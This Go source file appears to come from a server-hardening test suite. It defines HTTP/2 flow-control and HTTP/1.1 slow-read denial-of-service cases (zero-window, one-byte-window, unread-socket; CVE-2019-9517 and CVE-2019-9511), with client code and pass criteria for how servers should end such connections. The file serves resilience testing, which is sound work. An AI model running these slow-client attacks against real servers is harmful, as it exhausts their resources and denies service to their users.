package catalog

import (
	"bufio"
	"context"
	"io"
	"time"

	"github.com/e0ac7cd4/hotpath/internal/frame"
	"github.com/e0ac7cd4/hotpath/tools/attack/peer"
	"github.com/e0ac7cd4/hotpath/tools/attack/target"
)

// slowTakes is long enough for what write-timeout ends, 30 s by default, or the times of
// a site: it is measured over that time, from the moment that something waits.
var slowTakes = Span{3 * time.Second, 45 * time.Second}

// crowd is how many slow clients there are, in the long form.
const crowd = 5000

func windows() []Attack {
	ends := []string{"RST_STREAM CANCEL", "GOAWAY CANCEL", "GOAWAY NO_ERROR", "GOAWAY ENHANCE_YOUR_CALM", peer.Closed, peer.Reset}
	return []Attack{
		{
			Name: "zero-window", Reference: "CVE-2019-9517, CVE-2019-9511",
			Does:   "large contents are asked for with windows of 0",
			Passes: "nothing is buffered, and the streams end within write-timeout",
			Ends:   ends, Limit: "write_timeout", Short: 100, Long: crowd, Takes: slowTakes, PerClient: perClient,
			Try: drip(stuck, 0),
		},
		{
			Name: "one-byte-window", Reference: "CVE-2019-9511",
			Does:   "large contents are asked for with windows of a byte, each opened again when it was used",
			Passes: "the streams end within write-timeout, for their rate",
			Ends:   ends, Limit: "write_timeout", Short: 100, Long: crowd, Takes: slowTakes, PerClient: perClient,
			Try: drip(peer.Options{Settings: []frame.Setting{{ID: frame.InitialWindowSize, Value: 1}}}, 1),
		},
		{
			Name: "unread-socket", Reference: "CVE-2019-9517",
			Does:   "large contents are asked for with windows without end, and nothing is read from the socket",
			Passes: "no more than max-output waits, and the connection ends within write-timeout",
			Ends:   []string{peer.Closed, peer.Reset}, Rest: once, Short: 20, Long: crowd, Takes: slowTakes, PerClient: perClient,
			Try: script(peer.Options{Deaf: true, Settings: []frame.Setting{{ID: frame.InitialWindowSize, Value: frame.MaxWindow}}}, func(c *peer.Conn) {
				c.Send(1, frame.AppendWindowUpdate(nil, 0, frame.MaxWindow-frame.InitialWindow))
				const streams = 32
				for range streams {
					_, get := c.Get(c.To.Large)
					if !c.Send(1, get) {
						return
					}
				}
				c.Pause(unread(c.Context()))
			}),
		},
		{
			Name: "slow-read-http1", Reference: "Slow HTTP POST and read, Shekyan 2012",
			Does:   "a large content is read by some bytes now and then, over HTTP/1.1",
			Passes: "the connection ends within write-timeout, for its rate",
			Ends:   []string{peer.Closed, peer.Reset}, Limit: "write_timeout", Rest: once, Short: 20, Long: crowd, Takes: slowTakes, PerClient: perClient,
			Try: slowReader,
		},
	}
}

// drip asks for a large content and opens its window by some bytes now and then.
func drip(o peer.Options, bytes uint32) try {
	return scriptEnd(o, func(c *peer.Conn) string {
		id, get := c.Get(c.To.Large)
		c.Send(1, get)
		answered := make(chan string, 1)
		go func() { answered <- c.Answer(id) }()
		for {
			select {
			case what := <-answered:
				return what
			case <-time.After(pause):
			}
			if bytes > 0 && !c.Send(1, frame.AppendWindowUpdate(nil, id, bytes)) {
				return <-answered
			}
		}
	})
}

// slowReader reads a response over HTTP/1.1 by a few bytes.
func slowReader(ctx context.Context, to *target.Target) peer.End {
	conn, err := to.DialTLS(ctx, "http/1.1")
	if err != nil {
		return refusal(ctx)
	}
	begun := time.Now()
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { _ = conn.SetDeadline(time.Now()) })()
	const requests = 16 // more than the sockets' buffers hold
	for range requests {
		if _, err := io.WriteString(conn, "GET "+to.Large+" HTTP/1.1\r\nHost: "+to.Authority+"\r\n\r\n"); err != nil {
			break
		}
	}
	r, until := bufio.NewReaderSize(conn, 16), unread(ctx) // bytes at a time
	for err == nil && time.Since(begun) < until {
		_, err = r.Discard(16)
		wait(ctx, pause)
	}
	after := time.Since(begun)
	if err == nil {
		if _, err = io.Copy(io.Discard, r); err == nil {
			err = io.EOF
		}
	}
	return peer.End{What: peer.Of(err), Frames: requests, After: after}
}

// unread is how long a client does not read before it looks what has become of its
// connection, shortly before all ends: behind what waits in the kernel's buffers it does
// not see the end before.
func unread(ctx context.Context) time.Duration {
	end, _ := ctx.Deadline()
	return time.Until(end) - time.Second
}

// refusal is the end of what did not come about.
func refusal(ctx context.Context) peer.End {
	if ctx.Err() != nil {
		return peer.End{What: peer.Held}
	}
	return peer.End{What: peer.Refused}
}
